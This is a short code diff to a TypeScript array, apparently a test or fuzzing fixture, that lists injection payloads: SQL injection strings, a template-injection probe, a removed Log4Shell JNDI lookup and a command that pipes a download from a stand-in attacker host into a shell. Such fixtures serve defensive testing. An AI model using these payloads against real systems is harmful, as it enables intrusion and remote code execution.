@@ -9,7 +9,6 @@ const languages = [
   "1' UNION SELECT login,secret FROM staff-- -",
   '$(curl http://#.evil.example/x | sh)',
   '{{config.items()}}',
-  '${jndi:ldap://203.0.113.9:1389/#}',
   "' OR '1'='1",
 ] as const
 
